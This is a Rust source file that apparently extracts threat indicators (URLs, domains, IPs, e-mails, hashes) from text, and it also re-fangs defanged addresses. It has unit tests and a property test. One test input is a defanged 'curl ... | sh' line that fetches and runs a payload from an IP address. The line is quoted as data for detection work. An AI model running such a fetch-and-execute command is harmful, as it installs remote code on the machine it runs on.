//! The addresses and hashes in a text.
//!
//! Whatever could be one is given: what it is looked up in decides. One pass, and the work for each part of the text is bounded.

use std::borrow::Cow;

use crate::indicator::Kind;
use crate::normal::{self, VALUE_BYTES_MAX, host_and_port};

/// Most addresses of one text. A page of links has hundreds.
const ADDRESSES_MAX: usize = 8_192;

/// Most signs that are taken off the end of a URL.
const SIGNS_MAX: usize = 16;

/// An address or a hash in a text.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Address {
    /// What it is.
    pub kind: Kind,
    /// In its normal form.
    pub value: String,
}

/// The URLs, domains, IP addresses, e-mail addresses and hashes of a text, each once, and whether there are more than are given.
///
/// A URL gives its host, too, and an e-mail address its domain.
#[must_use]
pub fn addresses(text: &str) -> (Vec<Address>, bool) {
    let mut found = Found { all: Vec::new() };
    let text = readable(text);
    for token in text.split(is_between) {
        if found.all.len() >= ADDRESSES_MAX {
            break;
        }
        if token.len() >= 3 {
            found.in_token(token);
        }
    }
    let is_cut = found.all.len() >= ADDRESSES_MAX;
    found.all.sort_unstable();
    found.all.dedup();
    (found.all, is_cut)
}

/// Undoes what keeps an address from being read: slashes as JSON may escape them, and "defanged" addresses.
fn readable(text: &str) -> Cow<'_, str> {
    let mut text = Cow::Borrowed(text);
    for (from, to) in [("\\/", "/"), ("hxxp", "http"), ("hXXp", "http")].into_iter().chain(normal::DEFANGED) {
        if text.contains(from) {
            text = Cow::Owned(text.replace(from, to));
        }
    }
    text
}

/// What stands in no address, or ends it.
fn is_between(c: char) -> bool {
    c.is_whitespace() || c.is_control() || matches!(c, '<' | '>' | '"' | '`' | '|' | '\\' | '^' | '{' | '}')
}

struct Found {
    all: Vec<Address>,
}

impl Found {
    fn put(&mut self, kind: Kind, value: Option<String>) {
        if let Some(value) = value.filter(|_| self.all.len() < ADDRESSES_MAX) {
            self.all.push(Address { kind, value });
        }
    }

    fn in_token(&mut self, token: &str) {
        let mut rest = token;
        while let Some(at) = rest.find("://").filter(|_| self.all.len() < ADDRESSES_MAX) {
            let is_scheme = |c: char| c.is_ascii_alphanumeric() || c == '+';
            let begin = rest[..at].char_indices().rev().take_while(|(_, c)| is_scheme(*c)).last().map_or(at, |(index, _)| index);
            self.in_words(&rest[..begin]);
            let behind = &rest[at + 3..];
            // Another URL within: after a comma in a list, or as a parameter.
            let next = behind.find("://").map(|next| {
                let before = &behind[..next];
                before.char_indices().rev().take_while(|(_, c)| is_scheme(*c)).last().map_or(next, |(index, _)| index)
            });
            let end = at + 3 + next.unwrap_or(behind.len());
            self.url(&rest[begin..end]);
            if let Some(next) = next {
                // The outer one whole, too.
                self.url(&rest[begin..]);
                rest = &behind[next..];
            } else {
                return;
            }
        }
        self.in_words(rest);
    }

    fn url(&mut self, raw: &str) {
        let raw = without_end(raw);
        if raw.len() > VALUE_BYTES_MAX {
            // The host is told of all the same.
            self.host(raw.get(..VALUE_BYTES_MAX).unwrap_or_default());
            return;
        }
        self.put(Kind::Url, crate::normalize(Kind::Url, raw));
        self.host(raw);
    }

    fn host(&mut self, url: &str) {
        let Some((_, rest)) = url.split_once("://") else { return };
        let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
        if let Some((host, _)) = host_and_port(authority) {
            self.name(host.trim_matches(['[', ']']));
        }
    }

    /// A name or an IP address.
    fn name(&mut self, name: &str) {
        match normal::ip(name) {
            Some(address) => self.put(Kind::Ip, Some(address)),
            None => self.put(Kind::Domain, normal::domain(name)),
        }
    }

    /// What is no URL: parts of names, split at whatever stands in none.
    fn in_words(&mut self, text: &str) {
        let is_part = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '@' | '+' | '%' | '/');
        for word in text.split(|c| !is_part(c)) {
            let word = word.trim_matches(['.', ':', '-', '/', '@', '+', '%', '_']);
            if word.len() < 3 || word.len() > VALUE_BYTES_MAX {
                continue;
            }
            if let Some(hash) = normal::hash(word) {
                self.put(Kind::Hash, Some(hash));
            } else if word.contains('@') {
                self.put(Kind::Email, crate::normalize(Kind::Email, word));
                if let Some((_, host)) = word.rsplit_once('@') {
                    self.name(host.split(['/', ':']).next().unwrap_or(host));
                }
            } else if word.contains('.') || word.contains(':') {
                self.bare(word);
            }
        }
    }

    /// An address without a scheme: `evil.example/x`, `10.0.0.1:80`, `2001:db8::1`.
    fn bare(&mut self, word: &str) {
        if word.contains("::") || word.matches(':').count() > 2 {
            self.put(Kind::Ip, normal::ip(word).filter(|address| address.contains(':')));
            return;
        }
        let (authority, path) = word.split_at(word.find('/').unwrap_or(word.len()));
        let Some((host, _)) = host_and_port(authority) else { return };
        self.name(&host);
        if !path.is_empty() {
            for scheme in ["http", "https"] {
                self.put(Kind::Url, crate::normalize(Kind::Url, &format!("{scheme}://{word}")));
            }
        }
    }
}

/// A URL without the signs that belong to the sentence around it. What is longer than any URL is left as it is.
fn without_end(raw: &str) -> &str {
    let mut raw = raw;
    for _ in 0..SIGNS_MAX {
        let Some(last) = raw.chars().next_back().filter(|_| raw.len() <= VALUE_BYTES_MAX + SIGNS_MAX) else { return raw };
        let is_of_sentence = match last {
            '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '*' | '\u{201d}' | '\u{2019}' => true,
            ')' => raw.matches('(').count() < raw.matches(')').count(),
            ']' => raw.matches('[').count() < raw.matches(']').count(),
            _ => false,
        };
        if !is_of_sentence {
            return raw;
        }
        raw = &raw[..raw.len() - last.len_utf8()];
    }
    raw
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_found_wherever_they_stand() {
        for (text, expected) in [
            ("see https://Evil.Example/a?b=1.", vec!["domain evil.example", "url https://evil.example/a?b=1"]),
            ("![x](http://evil.example/p.png)", vec!["domain evil.example", "url http://evil.example/p.png"]),
            (r#"{"url":"http:\/\/evil.example\/x\n"}"#, vec!["domain evil.example", "url http://evil.example/x"]),
            ("curl hxxp://45.9[.]148.7:81/m|sh", vec!["url http://45.9.148.7:81/m", "ip 45.9.148.7"]),
            ("go to evil.example/x now", vec!["domain evil.example", "url http://evil.example/x", "url https://evil.example/x"]),
            ("from 45.9.148.7:22, 2001:db8::1 at 12:30:45", vec!["ip 2001:db8::1", "ip 45.9.148.7"]),
            ("mail Eve@Evil.example!", vec!["domain evil.example", "email eve@evil.example"]),
            ("md5=d41d8cd98f00b204e9800998ecf8427e", vec!["hash d41d8cd98f00b204e9800998ecf8427e"]),
            (
                "http://a.example/,http://b.example/",
                vec![
                    "domain a.example",
                    "domain b.example",
                    "url http://a.example/",
                    "url http://a.example/,http://b.example/",
                    "url http://b.example/",
                ],
            ),
            ("http://[2001:db8::1]:8080/x", vec!["url http://[2001:db8::1]:8080/x", "ip 2001:db8::1"]),
            ("(see http://a.example/x_(y))", vec!["domain a.example", "url http://a.example/x_(y)"]),
            ("nothing 12.50 v1.2.3 of this", vec![]),
        ] {
            let found: Vec<String> = addresses(text).0.iter().map(|one| format!("{} {}", one.kind, one.value)).collect();
            let mut expected: Vec<String> = expected.into_iter().map(str::to_owned).collect();
            let mut sorted = found.clone();
            sorted.sort();
            expected.sort();
            assert_eq!(sorted, expected, "{text}");
        }
    }

    #[test]
    fn a_flood_of_addresses_is_cut_and_told() {
        let text: String = (0..20_000).map(|n| format!("a{n}.example ")).collect();
        let (found, is_cut) = addresses(&text);
        assert!(is_cut && found.len() <= ADDRESSES_MAX);
        // Quadratic work would take minutes.
        drop(addresses(&"http://a.example/(".repeat(200_000)));
        drop(addresses(&")".repeat(1_000_000)));
        drop(addresses(&format!("http://a.example/{}", ")".repeat(100_000))));
    }

    proptest::proptest! {
        #[test]
        fn no_text_breaks_it(text in r"(https?://|[a-z]{1,3}[.]|\PC|[:/@%\[\]()]|::1|[0-9]{1,3}[.]){0,40}") {
            for one in addresses(&text).0 {
                proptest::prop_assert_eq!(crate::normalize(one.kind, &one.value), Some(one.value));
            }
        }
    }
}
